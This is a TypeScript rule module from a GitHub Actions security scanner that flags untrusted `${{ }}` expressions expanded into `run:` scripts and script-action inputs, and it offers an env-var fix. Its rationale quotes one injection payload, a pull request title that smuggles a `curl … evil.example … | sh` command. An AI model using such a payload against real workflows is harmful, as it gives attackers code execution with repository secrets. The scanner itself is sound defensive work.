import type { RawFinding } from '../../../core/finding.js';
import type { RuleDefinition } from '../../../core/rules.js';
import type { Audit } from './audit.js';
import {
  GITHUB_HARDENING,
  GITHUB_SCRIPT_INJECTIONS,
  KeyCounter,
  SCORECARD_CHECKS,
  ZIZMOR_AUDITS,
  makeFinding,
  spanInScalar,
  stepKey,
} from './audit.js';
import type { StepModel, StringValue, WorkflowModel } from './model.js';
import { stringValue, usesTarget } from './model.js';
import { envVarName, taintedExpressions } from './taint.js';

export const rule: RuleDefinition = {
  id: 'gha/template-injection',
  check: 'hardening',
  title: 'Attacker-controlled expression expanded into code',
  severity: 'high',
  description:
    'Finds `${{ … }}` expressions inside `run:` scripts and inside code inputs of script actions ' +
    '(`actions/github-script` `script:`, `azure/cli` `inlineScript:`, `appleboy/ssh-action` `script:`, ' +
    "`mikefarah/yq` `cmd:` and the other sinks of CodeQL's Actions models) whose value an attacker can choose: pull request, issue, " +
    'comment, review and discussion titles and bodies, branch names (`github.head_ref`, ' +
    '`github.event.pull_request.head.ref`), commit messages and author names and e-mails, and any other ' +
    "`github.event.*` field that is free text (the list follows zizmor's context capabilities). " +
    'String-typed `workflow_dispatch` / `workflow_call` inputs and composite-action inputs are reported at ' +
    'medium severity (in workflows without those triggers `inputs` is always empty and is not reported), and `steps.*.outputs` / `needs.*.outputs` and run-time matrices at low severity, ' +
    'because they often carry such data one hop removed. `${{ env.NAME }}` is followed to the `env:` that ' +
    'sets it (step, job, then workflow) and rated like the value there; a name set nowhere (likely written to ' +
    '`$GITHUB_ENV` at run time) is low. Contexts that only feed a comparison or a boolean ' +
    "function (`contains(github.event.issue.title, 'x')`) are not reported, nor are values GitHub constrains: " +
    'numbers and ids, SHAs, timestamps, logins (`github.actor`, `*.user.login`: letters, digits and `-`), ' +
    "repository names, and URLs GitHub builds from them (`artifacts_url`, an issue's `html_url`). URLs that " +
    "embed a tag name (a release's `html_url`, `tarball_url`) or that a third party writes (`details_url`, " +
    '`target_url`) are medium.',
  rationale:
    'GitHub substitutes `${{ }}` into the script text before the shell or JavaScript runtime sees it. A pull ' +
    'request titled `x"; curl -sSf https://evil.example/x | sh; echo "` therefore becomes part of the script ' +
    "and runs with the job's token and secrets. In `pull_request_target`, `issue_comment` or `workflow_run` " +
    'workflows this gives anyone with a GitHub account code execution with write access to the repository; ' +
    'it is the most common way GitHub Actions workflows are compromised.',
  fix:
    'Never expand untrusted data into code. Pass it through an environment variable and quote the variable, ' +
    'so the shell treats it as data:\n\n' +
    '```yaml\n# Vulnerable\n- run: echo "${{ github.event.pull_request.title }}"\n\n' +
    '# Fixed\n- env:\n    PR_TITLE: ${{ github.event.pull_request.title }}\n' +
    '  run: echo "$PR_TITLE"\n```\n\n' +
    'For `actions/github-script`, read the value from `context` (`context.payload.pull_request.title`) or ' +
    'from `process.env` instead of expanding it into the script.',
  references: [
    `${ZIZMOR_AUDITS}#template-injection`,
    `${SCORECARD_CHECKS}#dangerous-workflow`,
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    GITHUB_SCRIPT_INJECTIONS,
    GITHUB_HARDENING,
  ],
};

/**
 * Actions whose inputs are evaluated as code, keyed by `owner/repo` with input names lower-cased (GitHub
 * compares input names case-insensitively). From CodeQL's Actions sink models (as shipped in zizmor's
 * codeql-injection-sinks.json) plus the script actions zizmor adds and `addnab/docker-run-action`.
 */
const CODE_INPUTS: Record<string, string[]> = {
  'actions/github-script': ['script'],
  'amadevus/pwsh-script': ['script'],
  'jannekem/run-python-script-action': ['script'],
  'cardinalby/js-eval-action': ['expression'],
  // Runs `sh -c "$INPUT_RUN"` in the container it starts (zizmor's addnab-docker-run-action test case).
  'addnab/docker-run-action': ['run'],
  'azure/cli': ['inlinescript'],
  'azure/powershell': ['inlinescript'],
  'appleboy/ssh-action': ['script'],
  'mikefarah/yq': ['cmd'],
  'devorbitus/yq-action-output': ['cmd'],
  'sergeysova/jq-action': ['cmd'],
  'docker/build-push-action': ['context'],
  'roots/issue-closer-action': ['issue-close-message', 'pr-close-message'],
  'lucasbento/auto-close-issues': ['issue-close-message'],
  'skitionek/notify-microsoft-teams': ['overwrite'],
  'imjohnbo/issue-bot': ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text'],
  '8398a7/action-slack': ['custom_payload'],
  'gautamkrishnar/blog-post-workflow': ['item_exec'],
  'tibdex/backport': ['body_template', 'head_template', 'labels_template', 'title_template'],
};

/** The sink inputs of the action a `uses:` names: `owner/repo`, also when a sub-path follows. */
function codeInputs(uses: string): string[] {
  const repo = usesTarget(uses).split('/').slice(0, 2).join('/');
  return CODE_INPUTS[repo] ?? [];
}

function sinks(step: StepModel, workflow: WorkflowModel): { name: string; value: StringValue }[] {
  const out: { name: string; value: StringValue }[] = [];
  if (step.run) out.push({ name: 'run', value: step.run });
  if (step.uses) {
    const inputs = codeInputs(step.uses.value);
    for (const input of inputs) {
      const entry = step.with.get(input);
      const value = stringValue(entry?.value, workflow.doc);
      if (entry && value) out.push({ name: `with.${entry.key}`, value });
    }
  }
  return out;
}

export function run(workflow: WorkflowModel): RawFinding[] {
  const findings: RawFinding[] = [];
  const keys = new KeyCounter();
  for (const job of workflow.jobs) {
    for (const step of job.steps) {
      for (const sink of sinks(step, workflow)) {
        for (const tainted of taintedExpressions(sink.value.value, workflow, job, step)) {
          const { expression, contexts } = tainted;
          const worst = contexts[0]!;
          const list = contexts.map((c) => `\`${c.context}\` ${c.why}`).join('; ');
          const where =
            sink.name === 'run'
              ? 'a `run:` script'
              : `the \`${sink.name}\` code input of ${usesTarget(step.uses!.value)}`;
          const variable = envVarName(worst.context);
          findings.push(
            makeFinding(workflow, rule, {
              severity: tainted.severity,
              message: `Step ${step.label} of ${job.composite ? 'the composite action' : `job ${job.id}`} expands \`\${{${expression.body}}}\` into ${where}: ${list}.`,
              span: spanInScalar(
                workflow,
                sink.value.node,
                sink.value.value,
                expression.start,
                expression.end - expression.start,
              ),
              job,
              key: keys.next(`${stepKey(job, step)}/${sink.name}/${contexts.map((c) => c.context).join(',')}`),
              fix:
                sink.name === 'run'
                  ? `Add \`${variable}: \${{ ${worst.context} }}\` under the step's \`env:\` and use "$${variable}" in the script.`
                  : `Set \`${variable}: \${{ ${worst.context} }}\` under the step's \`env:\` and read process.env.${variable} in the script.`,
            }),
          );
        }
      }
    }
  }
  return findings;
}

export const templateInjection: Audit = { rule, run };
